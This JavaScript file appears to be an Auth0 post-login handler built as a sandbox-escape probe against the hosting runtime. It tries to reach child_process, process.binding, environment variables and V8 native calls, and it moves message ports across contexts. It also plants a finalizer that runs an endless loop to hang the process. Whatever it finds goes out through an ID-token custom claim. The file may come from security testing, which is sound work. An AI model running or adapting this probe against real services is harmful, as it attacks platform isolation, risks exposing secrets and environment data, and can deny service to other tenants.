// WebAssembly, FinalizationRegistry, Symbol.species, structuredClone and Reflect.construct as ways around
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  await attempt('wasm', async () => { const m = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return WebAssembly.Module.imports(m).length; });
  await attempt('clone', () => Object.keys(structuredClone(process.env)).length || structuredClone(new Error('x')).constructor !== Error); await attempt('construct', () => Reflect.construct(Object, [], require).constructor !== Object && Reflect.construct(Object, [], require('child_process').ChildProcess).pid);
  await attempt('species', () => { class A extends Array { static get [Symbol.species]() { return function (n) { return process; }; } } return new A(1, 2).map((x) => x) === process && process.binding; });
  new FinalizationRegistry(() => { for (;;); }).register({}, 1); await attempt('port', () => { const { MessageChannel, receiveMessageOnPort } = require('worker_threads'); const c = new MessageChannel(); c.port1.postMessage(1); return receiveMessageOnPort(c.port2).message !== 1; });
  await attempt('move', () => require('worker_threads').moveMessagePortToContext(new MessageChannel().port1, {})); await attempt('broadcast', () => new (require('worker_threads').BroadcastChannel)('x')); await attempt('natives', () => eval('%DebugPrint(1)')); await attempt('navigator', () => navigator.locks && 0);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
